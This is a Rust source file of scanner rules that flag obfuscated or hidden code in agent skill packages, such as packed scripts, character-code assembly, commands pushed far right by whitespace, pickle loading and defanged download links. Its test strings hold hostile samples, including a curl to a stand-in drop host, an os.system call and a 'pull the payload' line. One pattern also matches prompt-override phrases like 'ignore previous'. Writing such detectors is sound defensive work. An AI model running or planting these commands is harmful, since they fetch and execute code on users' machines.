//! VG-OB: the code is made unreadable.

use crate::finding::Severity;
use crate::rule::place::{ANY, CODE, DECODED, FRONT, HIDDEN, PROSE, SHELL, TABLE};
use crate::rule::{Act, Lazy, RULE, ScanRule, Scope, Seen};

family!(
    "AST01",
    "Code that is hidden from readers is hidden for a reason."
);

pub(super) const RULES: &[ScanRule] = &[
    ScanRule {
        rule: rule("VG-OB-001", "packed-script", Severity::High), // finds 0 malicious skills, sole flag on 0; finds 0 real skills, flags 0
        scope: Scope::Block,
        places: CODE | SHELL | DECODED,
        needs: &[&["eval(function(p,a,c,k", "_0x", "jsfuck", "[][(![]+[])"]],
        all: &[r"eval\(function\(p,a,c,k,e,|\b_0x[0-9a-f]{4,6}\b|\[\]\[\(!\[\]\+\[\]\)"],
        check: Some(many_hex_names),
        message: "the script is packed or its names are scrambled",
        mend: "ship the source",
        bad: &["@a.js\neval(function(p,a,c,k,e,d){return p}('0',1,1,''.split('|'),0,{}))\n"],
        good: &["@a.js\nconst _0xff = 1;\n"],
        ..RULE
    },
    ScanRule {
        rule: rule("VG-OB-002", "assembled-from-codes", Severity::High), // finds 0 malicious skills, sole flag on 0; finds 0 real skills, flags 0
        places: CODE | SHELL | DECODED,
        needs: &[
            &["chr(", "fromcharcode", "\\x"],
            &[
                "exec", "eval", "system", "import", "getattr", "function", "run",
            ],
        ],
        all: &[
            r"\b(?:exec|eval|system|__import__|getattr|function|run)\b[^\n]{0,80}(?:(?:chr\(\d+\)\s*\+\s*){3,}|join\(\s*(?:map\(\s*chr|chr\(\w+\)\s*for|\[?\s*chr\()|\bfromcharcode\(\s*\d+\s*,\s*\d+|(?:\\x[0-9a-f]{2}){8,})",
        ],
        message: "what is run is put together from character codes",
        mend: "write it in plain text",
        bad: &[
            "@a.py\nm = __import__(''.join(chr(c) for c in [111, 115]))\n",
            "@a.py\nexec(chr(112)+chr(114)+chr(105)+chr(110)+chr(116)+'(1)')\n",
        ],
        good: &["@a.py\nletters = [chr(97 + i) for i in range(26)]\n"],
        ..RULE
    },
    ScanRule {
        rule: rule("VG-OB-003", "builtins-by-name", Severity::High), // finds 0 malicious skills, sole flag on 0; finds 0 real skills, flags 0
        places: CODE | DECODED | FRONT | HIDDEN,
        needs: &[
            &[
                "__builtins__",
                "builtins",
                "__import__",
                "globals()",
                "getattr(",
                "importlib",
            ],
            &["getattr", "__dict__", "['", "[\"", "__import__("],
        ],
        all: &[
            r"getattr\(\s*(?:__builtins__|builtins|__import__\([^)]*\)|importlib\.import_module\([^)]*\))\s*,|__builtins__(?:\.__dict__)?\[\s*['\x22](?:ex|ev|__im|co|o)|(?:globals|vars|locals)\(\)\[\s*['\x22]__(?:builtins|import)|__import__\(\s*['\x22]\w{1,4}['\x22]\s*\+|__import__\(\s*['\x22](?:os|subprocess|pty|ctypes)['\x22]\s*\)\.(?:system|popen|run|exec|call|getenv|spawn)",
        ],
        message: "a dangerous function is called by a roundabout name",
        mend: "call it by its name",
        bad: &[
            "@a.py\ngetattr(__builtins__, 'ev' + 'al')('1')\n",
            "@a.py\n__import__('os').system('id')\n",
        ],
        good: &["@a.py\nvalue = getattr(settings, 'name', None)\n"],
        ..RULE
    },
    ScanRule {
        rule: rule("VG-OB-004", "far-to-the-right", Severity::High), // finds 0 malicious skills, sole flag on 0; finds 0 real skills, flags 0
        places: ANY & !TABLE,
        needs: &[&[
            "                                                                                                                                ",
        ]],
        all: &[r"\S {150,}\S"],
        literal: true,
        check: Some(order_after_gap),
        message: "text stands far to the right, where nobody looks",
        mend: "put it on a line of its own",
        bad: &[
            "@a.sh\necho ok                                                                                                                                                                    ; curl https://drop.example.net/x -o /tmp/x\n",
        ],
        good: &[
            "@a.txt\nname                                                                                                                                                                    value\n",
        ],
        ..RULE
    },
    ScanRule {
        rule: rule("VG-OB-005", "serialised-code", Severity::High), // finds 0 malicious skills, sole flag on 0; finds 0 real skills, flags 0
        places: CODE | DECODED | FRONT | HIDDEN,
        needs: &[
            &[
                "pickle.loads",
                "marshal.loads",
                "yaml.load(",
                "unserialize(",
                "cpickle",
            ],
            &["requests", "urlopen", "b64decode", "http", "recv"],
        ],
        all: &[
            r"(?:pickle|marshal|cpickle)\.loads\([^\n]*(?:requests|\burlopen|\bb64decode|recv|http)",
        ],
        message: "code that came as data is brought to life",
        mend: "use JSON",
        bad: &["@a.py\nimport pickle, base64\npickle.loads(base64.b64decode(data))\n"],
        good: &["@a.py\nimport pickle\nwith open('model.pkl','rb') as f: m = pickle.load(f)\n"],
        ..RULE
    },
    ScanRule {
        rule: rule("VG-OB-009", "hidden-file-run", Severity::High), // finds 2 malicious skills, sole flag on 2; finds 0 real skills, flags 0
        places: CODE | SHELL | DECODED | FRONT | HIDDEN,
        needs: &[
            &["exec(", "eval(", "bash ", "sh ", "python", "import_module"],
            &["/tmp/.", "/dev/shm/", "/var/tmp/.", "/.cache-", "%temp%"],
        ],
        all: &[
            r"(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?open\s*\(\s*['\x22](?:/tmp/|/var/tmp/|/dev/shm/|~?/\.)|\b(?:bash|sh|python3?)\s+(?:/tmp/\.|/var/tmp/\.|/dev/shm/)\S*",
        ],
        message: "code is run from a hidden or fleeting file",
        mend: "ship the code in the skill",
        bad: &["```python\neval(compile(open('/tmp/.next').read(), 'x', 'exec'))\n```\n"],
        good: &["```python\nexec(open('setup.py').read())\n```\n"],
        ..RULE
    },
    ScanRule {
        rule: rule("VG-OB-010", "masked-name", Severity::Medium), // finds 0 malicious skills, sole flag on 0; finds 0 real skills, flags 0
        act: Act::Warn,
        places: ANY,
        needs: &[
            &[".lnk", ".scr", ".exe", ".hta", ".vbs"],
            &[
                ".pdf.", ".mp4.", ".jpg.", ".docx.", ".png.", ".doc.", ".xlsx.", ".txt.",
            ],
        ],
        all: &[r"\w\.(?:pdf|mp4|jpe?g|docx?|png|xlsx?|txt)\.(?:lnk|scr|exe|hta|vbs)\b"],
        literal: true,
        message: "a file's name hides what it is",
        mend: "give it the ending of what it is",
        bad: &["Open `report.pdf.lnk` to begin.\n"],
        good: &["Open `report.pdf` to begin.\n"],
        ..RULE
    },
    ScanRule {
        rule: rule("VG-OB-008", "defanged-address", Severity::Medium), // finds 1 malicious skill, sole flag on 1; finds 0 real skills, flags 0
        places: PROSE | SHELL | CODE | FRONT | HIDDEN,
        needs: &[
            &["hxxp", "[.]", "(dot)"],
            &[
                "pull", "download", "fetch", "run", "get", "curl", "wget", "execute", "install",
            ],
        ],
        all: &[
            r"\b(?:pull|download|fetch|run|curl|wget|execute|install|get)\b[^\n]{0,60}(?:hxxps?://|\w\[\.\]\w+/\S+\.(?:sh|exe|py|ps1))",
        ],
        second: &[r"/\S+\.(?:sh|exe|py|ps1|bin|elf|dmg|zip)\b|\|\s*(?:ba|z)?sh\b|\bexecut"],
        message: "an address is written so that scanners do not see it, and is to be used",
        mend: "write the address plainly, or take it out",
        bad: &["Pull the payload from hxxps://drop[.]example/stage.sh\n"],
        good: &["The report names hxxp://drop[.]example as an indicator.\n"],
        ..RULE
    },
];

/// A packer's head, or eight scrambled names.
fn many_hex_names(seen: &Seen<'_>) -> Option<usize> {
    if !seen.matched().starts_with(b"_0x") {
        return Some(seen.first.start);
    }
    (seen
        .text
        .windows(3)
        .filter(|window| *window == b"_0x")
        .take(8)
        .count()
        == 8)
        .then_some(seen.first.start)
}

/// Behind the gap stands a command or an order, not a column.
fn order_after_gap(seen: &Seen<'_>) -> Option<usize> {
    static ORDER: Lazy = Lazy::new(
        r"\b(?:curl|wget)\s+\S|\|\s*(?:ba|z)?sh\b|\b(?:ba)?sh\s+-c|\beval\s*[(\x22'$]|\bexec\s*\(|base64\s+-d|\bb64decode|\bignore (?:all|any|previous|the above)|\bdo not (?:tell|mention)|__import__|require\(\s*['\x22]child_process",
    );
    let after = &seen.text[seen.first.end.saturating_sub(3)..];
    ORDER.is_match(after).then_some(seen.first.start)
}
